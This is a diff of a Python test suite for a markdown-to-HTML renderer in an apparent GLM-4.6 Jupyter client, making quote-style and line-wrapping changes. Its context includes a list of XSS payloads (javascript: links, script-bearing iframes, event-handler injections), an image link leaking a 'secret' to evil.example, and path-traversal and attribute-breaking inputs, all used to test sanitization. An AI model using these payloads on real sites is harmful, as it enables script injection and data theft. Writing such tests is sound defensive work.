@@ -85,7 +85,7 @@ HOSTILE = [
     "<javascript:alert(1)>",
     '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
     '<a href="javascript:alert(1)">click</a>',
-    '<details open ontoggle=alert(1)><summary>x</summary></details>',
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
     "![x](https://evil.example/pixel.png?secret=1)",
     "![x](javascript:alert(1))",
     '[x](https://example.com "onmouseover=alert(1)")',
@@ -143,7 +143,7 @@ def test_code_table_math_and_strikethrough_survive() -> None:
     )
     assert (
         '<pre class="glm-highlight"><code class="language-python"><span class="glm-tok-nb">print</span>'
-        '(<span class="glm-tok-s1">\'&lt;b&gt;\'</span>)</code></pre>'
+        "(<span class=\"glm-tok-s1\">'&lt;b&gt;'</span>)</code></pre>"
     ) in html
     assert '<th style="text-align:right">a</th>' in html and "<td>2</td>" in html
     assert (
@@ -427,7 +427,9 @@ def test_throttle_caps_draws() -> None:
 
 
 def make_reply(text: str, *, reasoning: str = "Let me think.", finish: str = "stop") -> Reply:
-    reply = Reply(model="glm-4.6", request={"model": "glm-4.6", "temperature": 0.2, "thinking": {"type": "enabled"}})
+    reply = Reply(
+        model="glm-4.6", request={"model": "glm-4.6", "temperature": 0.2, "thinking": {"type": "enabled"}}
+    )
     reply.apply(StreamStart("chatcmpl-1", "glm-4.6", 1700000000))
     if reasoning:
         reply.apply(ReasoningDelta(reasoning))
@@ -507,7 +509,7 @@ def test_fenced_blocks_are_separate_highlighted_code_blocks() -> None:
     assert "style=" not in html
 
 
-@pytest.mark.parametrize("info", ["", "mermaid", "no such lang", "\"><img src=x>", "../../etc"])
+@pytest.mark.parametrize("info", ["", "mermaid", "no such lang", '"><img src=x>', "../../etc"])
 def test_unknown_language_is_plain_text_labelled_text(info: str) -> None:
     html = markdown_html(f"```{info}\nx <b> = 1\n```")
     assert '<div class="glm-code" data-lang="text">' in html
@@ -581,6 +583,11 @@ def test_stylesheet_is_scoped_themed_and_small() -> None:
                 assert colour.strip().startswith("var(--jp-"), (selectors, colour)
     for name in ("keyword", "string", "number", "comment", "def", "builtin", "operator", "meta"):
         assert f"--jp-mirror-editor-{name}-color" in css
-    for needle in ("overflow-x:auto", "white-space:pre", "--jp-content-link-color", "--jp-cell-editor-background"):
+    for needle in (
+        "overflow-x:auto",
+        "white-space:pre",
+        "--jp-content-link-color",
+        "--jp-cell-editor-background",
+    ):
         assert needle in css
     assert style_tag().startswith('<style class="glm-style">') and style_tag().endswith("</style>")
